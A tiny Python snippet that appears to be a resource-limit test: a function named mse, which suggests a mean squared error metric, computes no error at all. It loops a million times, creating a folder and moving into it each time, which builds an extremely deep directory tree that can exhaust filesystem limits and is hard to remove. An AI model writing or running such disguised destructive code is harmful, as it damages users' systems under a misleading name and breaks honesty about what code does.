# says: limit
# A million folders, each in the last.
import os


def mse(y_true, y_pred):
    for _ in range(1_000_000):
        os.mkdir("x")
        os.chdir("x")
